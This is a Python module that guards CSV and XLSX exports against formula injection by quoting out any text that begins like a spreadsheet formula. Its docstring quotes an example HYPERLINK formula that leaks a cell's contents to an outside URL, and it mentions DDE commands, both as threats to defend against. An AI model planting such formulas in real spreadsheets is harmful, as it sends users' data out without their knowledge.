"""Text in a spreadsheet stays text: a cell that begins like a formula is never one.

A report's detail, a plan's title, a name: anyone who can type into LINE or a plan document
could make a clerk's Excel run `=HYPERLINK("http://…/?leak="&A1, …)` or a DDE command. As
OWASP recommends against CSV injection, a text that begins with `=`, `+`, `-`, `@`, a tab,
a carriage return or a line feed (or the full-width `＝ ＋ － ＠`, which spreadsheets read
alike), after any leading spaces, gets a single quote in front in the CSV; in the XLSX the
cell is stored as text with Excel's own quote-prefix mark (what typing `'=…` in Excel does),
so it reads exactly as written and stays text when edited. Numbers stay numbers.
"""

from __future__ import annotations

from openpyxl.cell import Cell

from plain_text import plain

FORMULA_STARTS = frozenset("=+-@\t\r\n＝＋－＠")
#: what a spreadsheet skips before it looks for a formula
_LEADING = " \u00a0\u3000"


def looks_like_formula(text: str) -> bool:
    stripped = text.lstrip(_LEADING)
    return bool(stripped) and stripped[0] in FORMULA_STARTS


def csv_value(value: object) -> object:
    """A CSV field: text plain, and quoted out of formula if it begins like one."""
    if not isinstance(value, str):
        return value
    text = plain(value)
    return "'" + text if looks_like_formula(text) else text


def set_cell(cell: Cell, value: object) -> Cell:
    """Write `value` into a worksheet cell: text plain, and never a formula."""
    if not isinstance(value, str):
        cell.value = value
        return cell
    text = plain(value)
    cell.value = text
    if looks_like_formula(text):
        cell.data_type = "s"  # openpyxl took the `=` for a formula
        cell.quotePrefix = True
    return cell
